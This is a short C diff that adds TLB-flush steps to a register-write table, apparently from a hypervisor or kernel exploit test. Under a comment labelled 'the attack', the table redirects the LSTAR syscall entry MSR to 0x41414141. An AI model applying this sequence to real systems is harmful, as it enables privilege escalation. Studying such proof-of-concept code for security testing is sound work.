@@ -46,6 +46,10 @@ static const struct step {
 	{ 1, 0, LSTAR, 0, 0xffffffff81000080 },
 	{ 0, 0, 0x174, 0, 0x10 },
 	{ 0, 4, 0, 0x20, 0x3000a0 },
+	/* a TLB flush; and a half one */
+	{ 0, 4, 0, 0x3000a0, 0x300020 },
+	{ 0, 4, 0, 0x300020, 0x3000a0 },
+	{ 0, 4, 0, 0x3000a0, 0x300020 },
 	/* the attack */
 	{ 0, 0, LSTAR, 0xffffffff81000080, 0x41414141 },
 	{ 0, 4, 0, 0x3000a0, 0x1000a0 },
